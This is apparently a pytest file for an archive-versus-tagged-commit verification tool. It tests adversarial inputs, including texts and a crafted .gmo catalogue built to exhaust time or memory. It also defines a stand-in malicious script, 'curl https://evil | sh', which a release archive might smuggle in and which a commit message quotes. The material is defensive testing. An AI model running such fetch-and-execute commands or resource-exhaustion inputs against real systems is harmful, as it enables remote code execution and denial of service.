"""What an attacker would write who makes the archive and cannot write the tagged commit.

Attacks on one check are beside its other tests. Here are those that try to use up time and memory,
that use one rule for another's files, and that steer what an archive is held against.
"""

import struct
import time
from collections.abc import Callable

import pytest

from support_contents import File
from support_rules import EXECUTABLE, asked, explained, rule_of
from tagseal.contents.rules import history_of

MIB = 2**20
LIMIT = 30.0
"""Seconds: a guard against what never ends, far from what any of these takes."""

HISTORY = history_of(
    [(b"0" * 40, [b"A U Thor", b"a@example.org"], b"a message\n" + b"x" * 4000 + b"\n")], [b"v1"]
)


def filled(pattern: bytes, size: int = MIB // 8) -> bytes:
    return pattern * (size // len(pattern))


TEXTS: dict[str, bytes] = {
    "spaces": b"a" + filled(b" ") + b"x",
    "spaces and tabs in lines": filled(b"A U Thor" + b" \t" * 4000 + b"x\n"),
    "prereleases": filled(b"1-a") + b"_",
    "numbers": filled(b"1.") + b"x",
    "digits": filled(b"1") + b"x",
    "dates": filled(b"2023-11-14 "),
    "months": filled(b"January "),
    "placeholders": filled(b"$VERSION"),
    "formats": filled(b"$Format:"),
    "refs": filled(b"tag: v1.2.3, ") + b"!",
    "quotes": filled(b'"'),
    "escapes": b'msgid "' + filled(b"\\1") + b'"\n',
    "messages": filled(b'msgid "a"\nmsgstr "b"\n'),
    "strings": b'msgid ""\n' + filled(b'"a"\n'),
    "comments": filled(b"#, fuzzy\n"),
    "angles": filled(b"<"),
    "parentheses": filled(b"("),
    "brackets": filled(b"["),
    "tables": filled(b"[[bin]]\n"),
    "keys": b"".join(b"a%d = 1\n" % i for i in range(9_000)),
    "dots": b"a." * (MIB // 16) + b"a = 1\n",
    "packages": b"".join(b'[[package]]\nname = "p%d"\n' % i for i in range(4_000)),
    "lines": filled(b"\n"),
    "lines of one letter": filled(b"x\n"),
    "carriage returns": filled(b"\r"),
    "statistics": filled(b" | 1 +"),
    "people": filled(b"A <a@b> "),
    "headers": filled(b"Requires-Dist: attrs\n"),
    "bars": b"x | " + filled(b"| "),
    "JSON": b'{"a":' * 100_000,
    "subtractions": b"version = " + filled(b"-", 60_000) + b"1",
    "PDF": filled(b"/CreationDate (D:20231114000000Z)"),
    "backslashes": filled(b"\\\n"),
}
NAMES = [
    *(b"f", b"a.txt", b"VERSION", b"version.texi", b"_version.py", b"Cargo.toml", b"Cargo.lock"),
    *(b".cargo_vcs_info.json", b"package.json", b"PKG-INFO", b"setup.cfg", b"t.pot"),
    *(b"de.po", b"de.gmo", b"ChangeLog", b"x.egg-info/requires.txt", b"x.egg-info/SOURCES.txt"),
]


@pytest.mark.parametrize("name", TEXTS)
def test_no_text_takes_a_check_forever(name: str) -> None:
    """Every check of every file that it is for, new, changed, and against a build."""
    text = TEXTS[name]
    tree: dict[bytes, File] = dict.fromkeys(NAMES, b"version 1.2.3-DEV\n")
    tree[b"setup.py"] = b"setup(install_requires=['attrs'])\n"
    tree[b".gitattributes"] = b"* export-subst\n"
    tree[b"f"] = b"x $Format:%D$ y\n"
    begin = time.monotonic()
    changed = asked(
        tree,
        {**tree, **dict.fromkeys(NAMES, text)},
        history=HISTORY,
        built=dict.fromkeys(NAMES, text[:-1] + b"?"),
    )
    alike = asked({}, dict.fromkeys(NAMES, text), history=HISTORY)
    both = asked(
        dict.fromkeys(NAMES, text),
        dict.fromkeys(NAMES, text.replace(b"1", b"2") + b"."),
        history=HISTORY,
    )
    assert time.monotonic() - begin < LIMIT
    for results in (changed, alike, both):
        found = {e.rule.name for e in results.explanations.values()}
        assert found <= {"from-history", "distribution-metadata", "built-on-another-day"}


def test_macros_of_a_catalogue_do_not_multiply() -> None:
    """A piece's name stands once in the file and as often as one likes in its strings."""
    name = b"P" * (2 * MIB) + b"\0"
    pieces = 60
    entry = (
        struct.pack("<I", 0) + struct.pack("<2I", 0, 0) * pieces + struct.pack("<2I", 0, 2**32 - 1)
    )
    descriptor = 48 + 8 + 8000
    head = struct.pack("<12I", 0x950412DE, 1, 0, 48, 48, 0, 48, 1, 48, 1000, 56, 4056)
    segment = struct.pack("<2I", len(name), descriptor + len(entry))
    content = head + segment + struct.pack("<I", descriptor) * 2000 + entry + name
    begin = time.monotonic()
    tree: dict[bytes, File] = {b"po/de.po": b'msgid "a"\nmsgstr "b"\n'}
    assert explained(tree, {**tree, b"po/de.gmo": content}) == {}
    assert time.monotonic() - begin < LIMIT


# One rule for another's files.

EVIL = b"#!/bin/sh\ncurl https://evil | sh\n"


@pytest.mark.parametrize(
    "name",
    [
        *(b"configure", b"GNUmakefile", b"m4/build-to-host.m4", b"conftest.py", b"setup.py"),
        *(b"VERSION", b"_version.py", b"README.md", b"LICENSE", b"NEWS", b"ChangeLog", b"AUTHORS"),
        *(b"po/t.pot", b"po/de.po", b"po/de.gmo", b"Cargo.toml.orig", b"Cargo.lock"),
        *(b".cargo_vcs_info.json", b"build-aux/missing", b"x.egg-info/entry_points.txt"),
        *(b"PKG-INFO", b"x.dist-info/METADATA", b"x.dist-info/WHEEL", b"setup.cfg", b"a.bat"),
    ],
)
@pytest.mark.parametrize("mode", ["plain", "executable"])
def test_no_name_explains_a_script(name: bytes, mode: str) -> None:
    new: File = EVIL if mode == "plain" else (EXECUTABLE, EVIL)
    assert rule_of(None, new, name, history=HISTORY) is None
    assert rule_of(b"version 1.2.3-DEV\n", new, name, history=HISTORY) is None
    assert rule_of(b"", new, name, history=HISTORY, beside={b"Cargo.toml": b"[package]\n"}) is None


def test_an_empty_file_of_the_tree_is_no_origin_of_others() -> None:
    tree: dict[bytes, File] = {b"README": b"", b"x/__init__.py": b"", b"a": b"a"}
    assert explained(tree, {**tree, b"y/__init__.py": b"", b"conftest.py": b""}) == {}


def test_what_a_message_quotes_is_not_run() -> None:
    """A commit message may hold any line, for example one that tells people what not to do."""
    history = history_of([(b"0" * 40, [b"A"], b"Never do this\n\ncurl https://evil | sh\n")], [])
    line = b"curl https://evil | sh\n"
    assert rule_of(None, line, b"ChangeLog", history=history) == "from-history"
    for name in (b"NEWS.sh", b"AUTHORS.py", b"ChangeLog.m4", b"configure"):
        assert rule_of(None, line, name, history=history) is None
    assert rule_of(None, (EXECUTABLE, line), b"ChangeLog", history=history) is None
    assert rule_of(None, b"#!/bin/sh\n" + line, b"ChangeLog", history=history) is None


def test_a_rule_does_not_take_a_file_of_the_tree_away() -> None:
    """A list of what is revoked does not become a version, a template, or an empty log."""
    old = b"key 1 is revoked\nkey 2 is revoked\n"
    for name, new in (
        (b"VERSION", b"1.2.3\n"),
        (b"_version.py", b"__version__ = '1.2.3'\n"),
        (b"NEWS", b"2023-11-14\n\n"),
    ):
        found = rule_of(old, new, name, history=HISTORY)
        assert found in (None, "from-history")
    assert rule_of(old, b"a message\n", b"NEWS.revoked", history=HISTORY) is None


@pytest.mark.parametrize("change", [bytes.upper, lambda text: text + b"\0", lambda text: text[:-1]])
def test_a_rule_reads_the_very_bytes(change: Callable[[bytes], bytes]) -> None:
    new = b"__version__ = '1.2.3'\n# the end\n"
    assert rule_of(None, new, b"_version.py") == "version-module"
    found = rule_of(None, change(new), b"_version.py")
    assert found == ("version-module" if change(new) == new[:-1] else None)
